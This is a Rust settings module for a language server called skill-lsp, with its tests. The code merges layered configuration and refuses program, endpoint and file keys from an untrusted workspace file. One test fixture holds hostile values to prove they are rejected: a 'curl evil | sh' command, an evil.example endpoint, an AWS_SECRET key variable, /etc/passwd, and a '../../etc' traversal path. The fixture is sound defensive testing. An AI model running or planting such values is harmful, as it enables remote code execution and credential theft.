//! Settings: wire options (every field optional, camelCase) from four layers, resolved into typed
//! [`Settings`] with the origin of every value. Layers, lowest first: built-in defaults < user file
//! (`$XDG_CONFIG_HOME/skill-lsp/config.yaml`) < workspace file (`.skill-lsp.yaml`) < editor
//! (`initializationOptions`, then `workspace/configuration` section `skillLsp`).
//!
//! One bad key is reported and skipped, never fatal. A workspace file is untrusted: keys that choose
//! a program to run, an endpoint to call or a file to write are ignored there with a warning.

use std::collections::BTreeMap;
use std::path::PathBuf;

pub mod keys;

/// Resolved settings used by the server and the CLI.
#[derive(Debug, Clone, PartialEq)]
pub struct Settings {
    /// `tracing` filter (e.g. `info`, `skill_lsp=debug`). `SKILL_LSP_LOG` wins over it.
    pub log_level: String,
    /// Log to this file instead of stderr.
    pub log_file: Option<PathBuf>,
    /// Largest message body the server reads (`maxMessageBytes`); a bigger one is answered with an
    /// error and skipped.
    pub max_message_bytes: usize,
    pub skills: SkillSettings,
    pub tips: TipSettings,
    pub hover: HoverSettings,
    pub agent: AgentSettings,
}

/// Where skills come from and which are enabled.
#[derive(Debug, Clone, PartialEq)]
pub struct SkillSettings {
    /// Load the library embedded in the binary.
    pub builtin: bool,
    /// Extra skill roots (files or folders). From a workspace file, only paths inside that workspace.
    pub paths: Vec<PathBuf>,
    /// Load the user folders (`~/.config/skill-lsp/skills`, `~/.agents/skills`, `~/.claude/skills`).
    pub user_folders: bool,
    /// When set, only these skills (names or aliases) are used.
    pub enabled: Option<Vec<String>>,
    /// Skills (names or aliases) never used.
    pub disabled: Vec<String>,
}

impl SkillSettings {
    /// The skills these settings turn off, as selection takes them.
    pub fn filter(&self) -> crate::skills::select::SkillFilter<'_> {
        crate::skills::select::SkillFilter {
            enabled: self.enabled.as_deref(),
            disabled: &self.disabled,
        }
    }

    /// Where skills load from under these settings, for these workspace folders.
    pub fn sources(&self, workspaces: &[PathBuf]) -> crate::skills::library::SkillSources {
        use crate::skills::library::SkillSources;
        SkillSources {
            builtin: self.builtin,
            user_dirs: if self.user_folders {
                SkillSources::default_user_dirs()
            } else {
                Vec::new()
            },
            configured: self.paths.clone(),
            workspaces: workspaces.to_vec(),
        }
    }
}

/// Tip diagnostics and hovers: the domain's own type (the tips engine and the file policy read
/// it), declared with its defaults in [`crate::skills::tip_policy`].
pub use crate::skills::tip_policy::TipPolicy as TipSettings;

/// Hover behaviour.
#[derive(Debug, Clone, PartialEq)]
pub struct HoverSettings {
    /// Ask the agent for a short explanation on tip hovers (sends code to the agent).
    pub agent: bool,
    /// Longest a hover waits for the agent before answering with the tip alone.
    pub agent_timeout_ms: u64,
}

/// Which agent runs code actions and how.
#[derive(Debug, Clone, PartialEq)]
pub struct AgentSettings {
    pub provider: Provider,
    /// Model name; each provider has a default.
    pub model: Option<String>,
    /// Base URL of the API (`http://localhost:11434/v1` for Ollama).
    pub endpoint: Option<String>,
    /// Name of the environment variable that holds the API key (never the key itself).
    pub api_key_env: Option<String>,
    /// Program run by the `command` provider; the prompt goes to its stdin.
    pub command: Option<String>,
    pub args: Vec<String>,
    /// Whole-request timeout.
    pub timeout_secs: u64,
    /// Upper bound on the reply length asked of the model.
    pub max_output_tokens: u32,
    pub temperature: f64,
    /// Retries on 429/5xx/connection errors, with backoff.
    pub retries: u32,
    /// Token budget for the assembled prompt.
    pub context_tokens: u32,
    /// An agent CLI run in its documented non-interactive mode (see `agent::preset`).
    pub preset: Option<crate::agent::preset::Preset>,
    /// Offer rewrites as a preview the user confirms (where the editor supports it).
    pub preview_edits: bool,
}

/// Agent backend choice.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Provider {
    /// An API key in the environment picks its provider; else a local Ollama; else none.
    Auto,
    OpenAi,
    Anthropic,
    Command,
    None,
}

impl Default for Settings {
    fn default() -> Self {
        Settings {
            log_level: "info".into(),
            log_file: None,
            max_message_bytes: crate::lsp::transport::DEFAULT_MAX_MESSAGE_BYTES,
            skills: SkillSettings {
                builtin: true,
                paths: Vec::new(),
                user_folders: true,
                enabled: None,
                disabled: Vec::new(),
            },
            tips: TipSettings::default(),
            hover: HoverSettings {
                agent: false,
                agent_timeout_ms: 1500,
            },
            agent: AgentSettings {
                provider: Provider::Auto,
                model: None,
                endpoint: None,
                api_key_env: None,
                command: None,
                args: Vec::new(),
                timeout_secs: 120,
                max_output_tokens: 4096,
                temperature: 0.2,
                retries: 2,
                context_tokens: 6000,
                preset: None,
                preview_edits: true,
            },
        }
    }
}

pub use crate::dirs::config_dir;

/// Which layer a value came from.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, serde::Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Layer {
    Default,
    User,
    Workspace,
    Editor,
    /// Command-line flags (`--skills`, `--no-builtin`).
    Cli,
}

/// Settings plus where every value came from and what was wrong with the inputs.
#[derive(Debug, Clone, PartialEq)]
pub struct Resolved {
    pub settings: Settings,
    /// Dotted camelCase key -> (layer, source file or "initializationOptions" ...).
    pub origins: BTreeMap<String, (Layer, String)>,
    /// Unknown keys, invalid values, keys a workspace may not set. Reported once, never fatal.
    pub warnings: Vec<String>,
}

/// Inputs of a resolution, lowest layer first.
#[derive(Debug, Clone, Default)]
pub struct Inputs {
    /// User config file path and its parsed content.
    pub user: Option<(PathBuf, serde_json::Value)>,
    /// Workspace folder, its `.skill-lsp.yaml` path and parsed content.
    pub workspaces: Vec<(PathBuf, PathBuf, serde_json::Value)>,
    /// Editor settings (`initializationOptions`, then `workspace/configuration`), merged in order.
    pub editor: Vec<(String, serde_json::Value)>,
    /// Problems met while reading the files (bad YAML...).
    pub read_errors: Vec<String>,
}

/// The user config file: `$XDG_CONFIG_HOME/skill-lsp/config.yaml` (fallback `~/.config/...`).
pub fn user_config_file() -> Option<PathBuf> {
    config_dir().map(|d| d.join("config.yaml"))
}

/// Name of the workspace settings file.
pub const WORKSPACE_FILE: &str = ".skill-lsp.yaml";

/// Why a settings file was not taken.
#[derive(Debug, thiserror::Error)]
pub enum ReadError {
    #[error("{}: not read: {why}", .path.display())]
    Refused {
        path: PathBuf,
        why: crate::skills::guard::Refused,
    },
    /// Nested deeper or larger than the limits allow; `line` is 0-based.
    #[error("{}:{}: {message}", .path.display(), .line + 1)]
    TooComplex {
        path: PathBuf,
        line: u32,
        message: String,
    },
    /// The YAML parser's first line.
    #[error("{}: invalid YAML: {message}", .path.display())]
    Invalid { path: PathBuf, message: String },
}

/// Read a YAML settings file. `Ok(None)` when it does not exist. With `confine` (a workspace
/// file) it must resolve inside that folder; any settings file must be a regular file under the
/// size cap (a symlink to `/dev/zero` or a pipe is refused, never read), and YAML nesting deeper
/// or larger than [`crate::skills::guard::YamlLimits::SETTINGS`] is refused before parsing.
pub fn read_yaml(
    path: &std::path::Path,
    confine: Option<&std::path::Path>,
) -> Result<Option<serde_json::Value>, ReadError> {
    use crate::skills::guard::{self, Refused, YamlLimits};
    let text = match guard::read_text(path, confine) {
        Ok(text) => text,
        Err(Refused::Missing) => return Ok(None),
        Err(why) => {
            return Err(ReadError::Refused {
                path: path.to_path_buf(),
                why,
            });
        }
    };
    if text.trim().is_empty() {
        return Ok(Some(serde_json::Value::Object(Default::default())));
    }
    if let Err(e) = guard::check_yaml(&text, YamlLimits::SETTINGS) {
        return Err(ReadError::TooComplex {
            path: path.to_path_buf(),
            line: e.line,
            message: e.message,
        });
    }
    yaml_serde::from_str::<serde_json::Value>(&text)
        .map(Some)
        .map_err(|e| ReadError::Invalid {
            path: path.to_path_buf(),
            message: e.to_string().lines().next().unwrap_or("").to_string(),
        })
}

impl Inputs {
    /// Read the user file and each workspace's `.skill-lsp.yaml`.
    pub fn read(user_file: Option<&std::path::Path>, workspaces: &[PathBuf]) -> Inputs {
        let mut inputs = Inputs::default();
        if let Some(p) = user_file {
            match read_yaml(p, None) {
                Ok(Some(v)) => inputs.user = Some((p.to_path_buf(), v)),
                Ok(None) => {}
                Err(e) => inputs.read_errors.push(e.to_string()),
            }
        }
        for ws in workspaces {
            let p = ws.join(WORKSPACE_FILE);
            match read_yaml(&p, Some(ws)) {
                Ok(Some(v)) => inputs.workspaces.push((ws.clone(), p, v)),
                Ok(None) => {}
                Err(e) => inputs.read_errors.push(e.to_string()),
            }
        }
        inputs
    }
}

/// Resolve the layers into settings.
pub fn resolve(inputs: &Inputs) -> Resolved {
    let mut r = Resolved {
        settings: Settings::default(),
        origins: BTreeMap::new(),
        warnings: inputs.read_errors.clone(),
    };
    if let Some((path, v)) = &inputs.user {
        apply_layer(&mut r, v, Layer::User, &path.display().to_string(), None);
    }
    for (ws, path, v) in &inputs.workspaces {
        apply_layer(
            &mut r,
            v,
            Layer::Workspace,
            &path.display().to_string(),
            Some(ws),
        );
    }
    for (source, v) in &inputs.editor {
        let v = v.get("skillLsp").unwrap_or(v);
        apply_layer(&mut r, v, Layer::Editor, source, None);
    }
    r
}

/// A resolution shared by reference that reads as its [`Settings`]: one copy per resolution,
/// cloned as an `Arc` by every snapshot.
#[derive(Debug, Clone)]
pub struct Shared(pub std::sync::Arc<Resolved>);

impl std::ops::Deref for Shared {
    type Target = Settings;
    fn deref(&self) -> &Settings {
        &self.0.settings
    }
}

/// Settings per workspace root: each root's `.skill-lsp.yaml` applies only to the documents
/// inside that root; user and editor settings are the base of every root.
#[derive(Debug, Clone, PartialEq)]
pub struct PerRoot {
    /// Every layer, each root's file in turn: what the skill sources, the message cap and the
    /// warnings come from (the library is one for the session).
    pub all: std::sync::Arc<Resolved>,
    /// User and editor layers only: documents outside every root.
    pub base: std::sync::Arc<Resolved>,
    /// Each workspace root with user, that root's file, and editor layers.
    pub roots: Vec<(PathBuf, std::sync::Arc<Resolved>)>,
}

impl PerRoot {
    /// The resolution for documents in `root` (as [`crate::skills::select::root_for`] finds it).
    pub fn for_root(&self, root: Option<&std::path::Path>) -> Shared {
        Shared(
            root.and_then(|r| self.roots.iter().find(|(p, _)| p == r))
                .map(|(_, r)| r)
                .unwrap_or(&self.base)
                .clone(),
        )
    }
}

/// Resolve the layers once for every root in `roots`, plus the base and the union.
pub fn resolve_per_root(inputs: &Inputs, roots: &[PathBuf]) -> PerRoot {
    use std::sync::Arc;
    let all = Arc::new(resolve(inputs));
    let only = |ws: Option<&PathBuf>| Inputs {
        user: inputs.user.clone(),
        workspaces: inputs
            .workspaces
            .iter()
            .filter(|(w, _, _)| Some(w) == ws)
            .cloned()
            .collect(),
        editor: inputs.editor.clone(),
        read_errors: Vec::new(),
    };
    let base = Arc::new(resolve(&only(None)));
    let roots = roots
        .iter()
        .map(|r| {
            let resolved = if inputs.workspaces.iter().any(|(w, _, _)| w == r) {
                Arc::new(resolve(&only(Some(r))))
            } else {
                base.clone()
            };
            (r.clone(), resolved)
        })
        .collect();
    PerRoot { all, base, roots }
}

/// Keys a workspace file may set: only what is safe in an untrusted repository.
fn apply_layer(
    r: &mut Resolved,
    v: &serde_json::Value,
    layer: Layer,
    source: &str,
    ws: Option<&PathBuf>,
) {
    let serde_json::Value::Object(map) = v else {
        if !v.is_null() {
            r.warnings
                .push(format!("{source}: settings must be a mapping"));
        }
        return;
    };
    let mut leaves = Vec::new();
    flatten("", map, &mut leaves);
    for (key, value) in leaves {
        // Editor-side keys (`skillLsp.server.path`, `skillLsp.trace.server`) travel in the same
        // section; they are the client's business.
        if layer == Layer::Editor
            && (key.starts_with("server.")
                || key == "server"
                || key.starts_with("trace.")
                || key == "trace")
        {
            continue;
        }
        let spec = keys::spec(&key);
        if layer == Layer::Workspace && spec.is_some_and(|s| !s.workspace) {
            r.warnings.push(format!("{source}: `{key}` is ignored in a workspace file (it can only be set in user or editor settings)"));
            continue;
        }
        let applied = match spec {
            Some(spec) => (spec.set)(&mut r.settings, &key, &value, ws),
            None => Err(keys::SettingError::UnknownKey(key.clone())),
        };
        match applied {
            Ok(()) => {
                r.origins.insert(key, (layer, source.to_string()));
            }
            Err(e) => r.warnings.push(format!("{source}: {e}")),
        }
    }
}

fn flatten(
    prefix: &str,
    map: &serde_json::Map<String, serde_json::Value>,
    out: &mut Vec<(String, serde_json::Value)>,
) {
    for (k, v) in map {
        let key = if prefix.is_empty() {
            k.clone()
        } else {
            format!("{prefix}.{k}")
        };
        match v {
            serde_json::Value::Object(inner)
                if keys::spec(&key).is_none()
                    && keys::keys().any(|known| known.starts_with(&format!("{key}."))) =>
            {
                flatten(&key, inner, out)
            }
            _ => out.push((key, v.clone())),
        }
    }
}

/// `~/x` -> `$HOME/x`.
pub fn expand_home(p: &str) -> PathBuf {
    if let Some(rest) = p.strip_prefix("~/")
        && let Some(home) = std::env::var_os("HOME")
    {
        return PathBuf::from(home).join(rest);
    }
    PathBuf::from(p)
}

/// Lexically remove `.` and `..` (no file system access: the path may not exist yet).
pub fn normalize_path(p: &std::path::Path) -> PathBuf {
    let mut out = PathBuf::new();
    for c in p.components() {
        match c {
            std::path::Component::ParentDir => {
                out.pop();
            }
            std::path::Component::CurDir => {}
            other => out.push(other),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::skills::model::Severity;
    use serde_json::json;

    #[test]
    fn layers_and_origins() {
        let inputs = Inputs {
            user: Some((
                PathBuf::from("/u/config.yaml"),
                json!({"agent": {"provider": "openai", "endpoint": "http://127.0.0.1:1/v1"}, "tips": {"debounceMs": 100}}),
            )),
            workspaces: vec![(
                PathBuf::from("/w"),
                PathBuf::from("/w/.skill-lsp.yaml"),
                json!({"tips": {"debounceMs": 50, "overrides": {"docker": "off", "python-error-handling/blind-except": "warning"}}, "skills": {"paths": ["team-skills"]}}),
            )],
            editor: vec![(
                "initializationOptions".into(),
                json!({"skillLsp": {"tips": {"severity": "hint"}}}),
            )],
            read_errors: vec![],
        };
        let r = resolve(&inputs);
        assert!(r.warnings.is_empty(), "{:?}", r.warnings);
        assert_eq!(r.settings.agent.provider, Provider::OpenAi);
        assert_eq!(r.settings.tips.debounce_ms, 50);
        assert_eq!(r.settings.tips.severity, Some(Severity::Hint));
        assert_eq!(r.settings.tips.overrides["docker"], None);
        assert_eq!(
            r.settings.tips.overrides["python-error-handling/blind-except"],
            Some(Severity::Warning)
        );
        assert_eq!(
            r.settings.skills.paths,
            vec![PathBuf::from("/w/team-skills")]
        );
        assert_eq!(r.origins["tips.debounceMs"].0, Layer::Workspace);
        assert_eq!(r.origins["agent.endpoint"].0, Layer::User);
        assert_eq!(r.origins["tips.severity"].0, Layer::Editor);
    }

    #[test]
    fn workspace_cannot_choose_programs_or_endpoints() {
        let inputs = Inputs {
            workspaces: vec![(
                PathBuf::from("/w"),
                PathBuf::from("/w/.skill-lsp.yaml"),
                json!({"agent": {"command": "curl evil | sh", "endpoint": "https://evil.example/v1", "apiKeyEnv": "AWS_SECRET"}, "hover": {"agent": true}, "logFile": "/etc/passwd", "skills": {"paths": ["../../etc"]}}),
            )],
            ..Default::default()
        };
        let r = resolve(&inputs);
        assert_eq!(r.settings.agent.command, None);
        assert_eq!(r.settings.agent.endpoint, None);
        assert_eq!(r.settings.agent.api_key_env, None);
        assert!(!r.settings.hover.agent);
        assert_eq!(r.settings.log_file, None);
        assert!(r.settings.skills.paths.is_empty());
        assert_eq!(r.warnings.len(), 6, "{:#?}", r.warnings);
        assert!(
            r.warnings
                .iter()
                .any(|w| w.contains("`agent.command` is ignored in a workspace file"))
        );
        assert!(
            r.warnings
                .iter()
                .any(|w| w.contains("outside the workspace"))
        );
    }

    #[test]
    fn bad_fields_are_skipped_not_fatal() {
        let inputs = Inputs {
            editor: vec![(
                "workspace/configuration".into(),
                json!({"tips": {"debounceMs": "soon", "severity": "loud", "enabled": false}, "bogus": 1, "agent": {"model": "m"}}),
            )],
            ..Default::default()
        };
        let r = resolve(&inputs);
        assert_eq!(r.warnings.len(), 3, "{:#?}", r.warnings);
        assert!(!r.settings.tips.enabled);
        assert_eq!(r.settings.tips.debounce_ms, 300);
        assert_eq!(r.settings.agent.model.as_deref(), Some("m"));
        assert!(
            r.warnings
                .iter()
                .any(|w| w.contains("unknown setting `bogus`"))
        );
    }

    /// The diagnostic caps take counts; anything else is reported and the default stays.
    #[test]
    fn diagnostic_caps_reject_non_counts() {
        let inputs = Inputs {
            editor: vec![(
                "workspace/configuration".into(),
                json!({"tips": {"maxDiagnostics": "lots", "maxPerTip": -1}}),
            )],
            ..Default::default()
        };
        let r = resolve(&inputs);
        assert_eq!(r.warnings.len(), 2, "{:#?}", r.warnings);
        assert!(r.warnings.iter().any(|w| w.contains("tips.maxDiagnostics")));
        assert!(r.warnings.iter().any(|w| w.contains("tips.maxPerTip")));
        assert_eq!(r.settings.tips.max_diagnostics, 500);
        assert_eq!(r.settings.tips.max_per_tip, 50);
        let zero = Inputs {
            editor: vec![(
                "workspace/configuration".into(),
                json!({"tips": {"maxDiagnostics": 0, "maxPerTip": 0}}),
            )],
            ..Default::default()
        };
        let r = resolve(&zero);
        assert!(r.warnings.is_empty(), "{:#?}", r.warnings);
        assert_eq!(
            (r.settings.tips.max_diagnostics, r.settings.tips.max_per_tip),
            (0, 0)
        );
    }

    #[test]
    fn message_cap_comes_from_user_or_editor_never_the_workspace() {
        let inputs = Inputs {
            user: Some((
                PathBuf::from("/u.yaml"),
                json!({"maxMessageBytes": 1048576}),
            )),
            workspaces: vec![(
                PathBuf::from("/w"),
                PathBuf::from("/w/.skill-lsp.yaml"),
                json!({"maxMessageBytes": 5000}),
            )],
            ..Default::default()
        };
        let r = resolve(&inputs);
        assert_eq!(r.settings.max_message_bytes, 1 << 20);
        assert!(
            r.warnings
                .iter()
                .any(|w| w.contains("`maxMessageBytes` is ignored in a workspace file")),
            "{:#?}",
            r.warnings
        );
        let small = Inputs {
            editor: vec![(
                "initializationOptions".into(),
                json!({"maxMessageBytes": 10}),
            )],
            ..Default::default()
        };
        let r = resolve(&small);
        assert_eq!(
            r.settings.max_message_bytes,
            crate::lsp::transport::DEFAULT_MAX_MESSAGE_BYTES
        );
        assert!(r.warnings[0].contains("at least 4096"), "{:#?}", r.warnings);
    }

    #[test]
    fn a_broken_workspace_file_is_a_warning_that_names_it_and_the_rest_still_resolves() {
        let ws = tempfile::tempdir().unwrap();
        let file = ws.path().join(WORKSPACE_FILE);
        std::fs::write(&file, "tips:\n  severity: [unclosed\n").unwrap();
        let e = read_yaml(&file, Some(ws.path())).unwrap_err();
        assert!(
            matches!(e, ReadError::Invalid { ref path, .. } if *path == file),
            "{e:?}"
        );
        let text = e.to_string();
        assert!(
            text.starts_with(&format!("{}: invalid YAML: ", file.display())),
            "{text}"
        );
        assert!(!text.contains('\n'), "one line: {text}");
        // A missing file is no error; a broken one is a warning and the defaults stand.
        assert!(
            read_yaml(&ws.path().join("absent.yaml"), None)
                .unwrap()
                .is_none()
        );
        let r = resolve(&Inputs::read(None, &[ws.path().to_path_buf()]));
        assert_eq!(r.warnings, vec![text]);
        assert_eq!(r.settings, Settings::default());
    }
}
